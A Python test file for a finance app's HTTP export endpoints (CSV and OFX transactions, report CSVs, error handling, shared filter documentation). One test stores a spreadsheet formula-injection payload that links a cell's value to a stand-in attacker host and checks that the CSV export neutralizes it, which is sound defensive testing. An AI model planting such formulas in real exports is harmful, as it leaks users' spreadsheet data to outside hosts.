"""Exports over HTTP: transactions as CSV (filters of the list, formula cells neutralized) and
as OFX that imports back, reports as CSV, bad requests as problems before any byte."""

from __future__ import annotations

import csv
import io

from http_support import Api, run_background_tasks


def test_transactions_csv_with_the_lists_filters(api: Api) -> None:
    account = api.account()
    api.tx(account, "2026-11-03", '=HYPERLINK("http://evil.example/?"&A1)', "-12.50")
    api.tx(account, "2026-11-04", "SALARIO", "1234.56")
    api.tx(account, "2026-10-01", "OLD", "-1.00")
    response = api.get("/api/exports/transactions", params={"date_from": "2026-11-01"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["booked_on"], r["description"], r["amount"]) for r in rows] == [
        ("2026-11-04", "SALARIO", "1234.56"),
        ("2026-11-03", '\'=HYPERLINK("http://evil.example/?"&A1)', "-12.50"),
    ]


def test_the_exports_take_the_lists_tag_filters(api: Api) -> None:
    account = api.account()
    api.tx(account, "2026-11-03", "HOTEL", "-300.00", tags=["trip", "work"])
    api.tx(account, "2026-11-04", "MUSEU", "-20.00", tags=["trip"])
    api.tx(account, "2026-11-05", "PADARIA", "-5.00")
    for params, expected in (
        ({"tag": ["trip"]}, {"HOTEL", "MUSEU"}),
        ({"tag": ["trip", "work"], "tag_match": "all"}, {"HOTEL"}),
    ):
        listed = api.get("/api/transactions", params=params).json()["items"]
        csv_export = api.get("/api/exports/transactions", params=params)
        ofx_export = api.get("/api/exports/transactions/ofx", params={**params, "account_id": account})
        assert csv_export.status_code == ofx_export.status_code == 200, (csv_export.text, ofx_export.text)
        assert {t["description"] for t in listed} == expected
        assert {r["description"] for r in csv.DictReader(io.StringIO(csv_export.text))} == expected
        assert ofx_export.text.count("<STMTTRN>") == len(expected)


def test_an_ofx_export_imports_into_another_account(api: Api) -> None:
    source = api.account("Source", "BRL", "0.00")
    api.tx(source, "2026-11-03", "PADARIA", "-12.50")
    api.tx(source, "2026-11-04", "SALARIO", "1234.56")
    exported = api.get("/api/exports/transactions/ofx", params={"account_id": source})
    assert exported.status_code == 200, exported.text
    target = api.account("Target", "BRL", "0.00")
    files = {"file": ("export.ofx", exported.content, "application/x-ofx")}
    upload = api.client.post(
        "/api/imports", data={"account_id": target, "format": "ofx"}, files=files, headers=api.headers
    )
    assert upload.status_code == 202, upload.text
    run_background_tasks(api.client)
    done = api.get(f"/api/imports/{upload.json()['id']}").json()
    assert (done["status"], done["imported"], done["balance_check"]["matches"]) == ("completed", 2, True)
    balances = {a["name"]: a["balance"]["amount"] for a in api.get("/api/accounts").json()}
    assert balances["Source"] == balances["Target"] == "1222.06"


def test_report_csv(api: Api) -> None:
    account = api.account()
    food = api.category("Food")
    api.tx(account, "2026-11-03", "PADARIA", "-12.50", category_id=food)
    response = api.get("/api/exports/reports/spend_by_category", params={"start": "2026-11-01", "end": "2026-11-30"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["month"], r["category"], r["spent"], r["spent_currency"]) for r in rows] == [
        ("2026-11-01", "Food", "12.50", "BRL")
    ]


def test_bad_exports_are_problems(api: Api) -> None:
    for path, params in (("/ofx", {}), ("", {"amount_min": "lots"}), ("", {"date_from": "2026-12-01",
                         "date_to": "2026-11-01"})):  # fmt: skip
        response = api.get(f"/api/exports/transactions{path}", params=params)
        assert response.status_code in (400, 422), (params, response.text)
        assert response.headers["content-type"].startswith("application/problem+json")
    unknown = api.get("/api/exports/transactions/ofx", params={"account_id": "00000000-0000-7000-8000-000000000000"})
    assert unknown.status_code == 404
    assert api.get(
        "/api/exports/reports/cash_flow", params={"start": "2026-12-01", "end": "2026-11-01"}
    ).status_code in (
        400,
        422,
    )


def test_the_list_and_the_exports_document_the_same_filters(api: Api) -> None:
    """One declaration of the filters serves the list and both exports, so they cannot drift apart
    (the exports once missed the list's tag filters)."""
    paths = api.get("/schema/openapi.json").json()["paths"]

    def query_names(path: str) -> set[str]:
        return {p["name"] for p in paths[path]["get"].get("parameters", []) if p["in"] == "query"}

    listed = query_names("/api/transactions") - {"cursor", "limit"}
    assert {"account_id", "category_id", "q", "tag", "tag_match", "uncategorized"} <= listed
    assert query_names("/api/exports/transactions") == listed
    assert query_names("/api/exports/transactions/ofx") == listed
